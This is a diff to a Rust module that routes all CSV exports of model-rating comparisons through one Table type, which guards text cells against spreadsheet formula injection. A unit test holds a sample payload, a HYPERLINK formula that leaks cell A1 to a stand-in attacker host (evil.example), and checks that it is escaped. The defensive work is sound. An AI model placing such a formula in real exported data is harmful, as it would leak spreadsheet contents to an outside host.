@@ -1,93 +1,160 @@
-//! Comma-separated values (RFC 4180), UTF-8, one header line. The columns are described in
-//! docs/formats.md.
+//! Every CSV file that leaves the program: comma-separated values (RFC 4180), UTF-8, one header line. The
+//! columns are described in docs/formats.md.
+//!
+//! No other module may create a `csv::Writer` (a test reads the source): [`Table`] is where text is guarded
+//! against being run by a spreadsheet.
 
-use app::model::{comparison::Comparison, lang::Lang, rubric::Rubric};
-use csv::Writer;
+use std::{fmt::Display, io::Write};
 
-use crate::{db::studies::RatingLine, error::Failure};
+use app::model::{comparison::Comparison, lang::Lang};
 
-/// The export of a study's ratings, a line a rating.
-pub struct Ratings(Writer<Vec<u8>>);
+use crate::{error::Failure, formats::formulas};
 
-impl Ratings {
-    /// A table with its header: one column for each dimension of the rubric.
-    pub fn new(rubric: &Rubric) -> Result<Self, Failure> {
-        let mut writer = Writer::from_writer(Vec::new());
-        let head = ["task_id", "model", "sample", "rater"].into_iter();
-        let tail = ["comment", "flag", "notes", "rated_at", "superseded_at"];
-        writer.write_record(head.chain(rubric.dimensions.iter().map(|d| d.key.as_str())).chain(tail))?;
-        Ok(Ratings(writer))
+/// A CSV file that is being written, cell by cell.
+pub struct Table<W: Write>(csv::Writer<W>);
+
+impl<W: Write> Table<W> {
+    /// A table with its header line.
+    ///
+    /// # Errors
+    /// `out` cannot be written.
+    pub fn new<'a>(out: W, head: impl IntoIterator<Item = &'a str>) -> Result<Self, Failure> {
+        let mut table = Table(csv::WriterBuilder::new().flexible(false).from_writer(out));
+        for name in head {
+            table.text(name)?;
+        }
+        table.end_line()?;
+        Ok(table)
     }
 
-    /// Adds a rating.
-    pub fn push(&mut self, line: RatingLine) -> Result<(), Failure> {
-        let mut record = vec![line.task_id, line.model, line.sample.to_string(), line.rater];
-        record.extend(line.scores.iter().map(u8::to_string));
-        record.extend([
-            line.comment,
-            line.flag.unwrap_or_default(),
-            match line.notes.as_slice() {
-                [] => String::new(),
-                notes => serde_json::to_string(notes)?,
-            },
-            line.at.rfc3339(),
-            line.superseded_at.map(|at| at.rfc3339()).unwrap_or_default(),
-        ]);
-        Ok(self.0.write_record(record)?)
+    /// A cell that holds text: anything that a person, a file or a model chose.
+    ///
+    /// # Errors
+    /// The file cannot be written.
+    pub fn text(&mut self, text: &str) -> Result<(), Failure> {
+        Ok(self.0.write_field(formulas::guarded(text).as_bytes())?)
     }
 
-    /// The file's bytes.
-    pub fn finish(self) -> Result<Vec<u8>, Failure> {
-        finish(self.0)
+    /// A cell that holds a number, a time or a word of our own, which may begin with a minus sign.
+    ///
+    /// # Errors
+    /// The file cannot be written.
+    pub fn value(&mut self, value: impl Display) -> Result<(), Failure> {
+        Ok(self.0.write_field(value.to_string())?)
+    }
+
+    /// As [`Table::value`]; empty where there is none.
+    ///
+    /// # Errors
+    /// The file cannot be written.
+    pub fn optional(&mut self, value: Option<impl Display>) -> Result<(), Failure> {
+        match value {
+            Some(value) => self.value(value),
+            None => Ok(self.0.write_field("")?),
+        }
+    }
+
+    /// Ends the line.
+    ///
+    /// # Errors
+    /// The file cannot be written, or the line has another number of cells than the header.
+    pub fn end_line(&mut self) -> Result<(), Failure> {
+        Ok(self.0.write_record(None::<&[u8]>)?)
+    }
+
+    /// Writes out what is buffered.
+    ///
+    /// # Errors
+    /// The file cannot be written.
+    pub fn finish(mut self) -> Result<(), Failure> {
+        Ok(self.0.flush()?)
     }
 }
 
 /// The comparison's table: a line for each model and dimension.
 pub fn comparison(comparison: &Comparison) -> Result<Vec<u8>, Failure> {
-    let mut writer = Writer::from_writer(Vec::new());
-    writer.write_record([
-        "model",
-        "dimension",
-        "name",
-        "ratings",
-        "tasks",
-        "mean",
-        "ci95_low",
-        "ci95_high",
-        "distribution",
-        "resamples",
-        "seed",
-    ])?;
-    let figure = |value: Option<f64>| value.map(|v| v.to_string()).unwrap_or_default();
+    let mut bytes = Vec::new();
+    let mut table = Table::new(
+        &mut bytes,
+        [
+            "model",
+            "dimension",
+            "name",
+            "ratings",
+            "tasks",
+            "mean",
+            "ci95_low",
+            "ci95_high",
+            "distribution",
+            "resamples",
+            "seed",
+        ],
+    )?;
     for model in &comparison.models {
         for (scores, dimension) in model.dimensions.iter().zip(&comparison.rubric.dimensions) {
             let (low, _) = dimension.range();
             let distribution: Vec<_> =
                 (low..).zip(&scores.distribution).map(|(score, n)| format!("{score}:{n}")).collect();
-            writer.write_record([
-                model.model.clone(),
-                dimension.key.clone(),
-                dimension.name.get(Lang::En).to_owned(),
-                model.ratings.to_string(),
-                model.tasks.to_string(),
-                figure(scores.mean),
-                figure(scores.interval.map(|i| i.low)),
-                figure(scores.interval.map(|i| i.high)),
-                distribution.join(" "),
-                comparison.resamples.to_string(),
-                comparison.seed.clone(),
-            ])?;
+            table.text(&model.model)?;
+            table.text(&dimension.key)?;
+            table.text(dimension.name.get(Lang::En))?;
+            table.value(model.ratings)?;
+            table.value(model.tasks)?;
+            table.optional(scores.mean)?;
+            table.optional(scores.interval.map(|i| i.low))?;
+            table.optional(scores.interval.map(|i| i.high))?;
+            table.value(distribution.join(" "))?;
+            table.value(comparison.resamples)?;
+            table.text(&comparison.seed)?;
+            table.end_line()?;
         }
     }
-    finish(writer)
-}
-
-fn finish(writer: Writer<Vec<u8>>) -> Result<Vec<u8>, Failure> {
-    writer.into_inner().map_err(|e| Failure::internal(e.to_string()))
+    table.finish()?;
+    Ok(bytes)
 }
 
 impl From<csv::Error> for Failure {
     fn from(e: csv::Error) -> Self {
         Failure::internal(e)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn text_is_guarded_and_numbers_are_not() {
+        let mut bytes = Vec::new();
+        let mut table = Table::new(&mut bytes, ["=head", "b", "c"]).unwrap();
+        table.text("=HYPERLINK(\"http://evil.example/?\"&A1,\"ok\")").unwrap();
+        table.value(-1.5).unwrap();
+        table.optional(None::<u8>).unwrap();
+        table.end_line().unwrap();
+        table.finish().unwrap();
+        let text = String::from_utf8(bytes).unwrap();
+        assert_eq!(text, "'=head,b,c\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"ok\"\")\",-1.5,\n");
+    }
+
+    #[test]
+    fn only_this_module_writes_csv() {
+        fn each(folder: &std::path::Path, check: &mut impl FnMut(&std::path::Path, &str)) {
+            for entry in std::fs::read_dir(folder).unwrap() {
+                let path = entry.unwrap().path();
+                if path.is_dir() {
+                    each(&path, check);
+                } else {
+                    check(&path, &std::fs::read_to_string(&path).unwrap());
+                }
+            }
+        }
+        let source = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src");
+        let mut writers = Vec::new();
+        each(&source, &mut |path, text| {
+            if ["csv::Writer", "Writer::from_writer"].iter().any(|word| text.contains(word)) {
+                writers.push(path.strip_prefix(&source).unwrap().to_owned());
+            }
+        });
+        assert_eq!(writers, [std::path::Path::new("report/csv.rs")]);
     }
 }
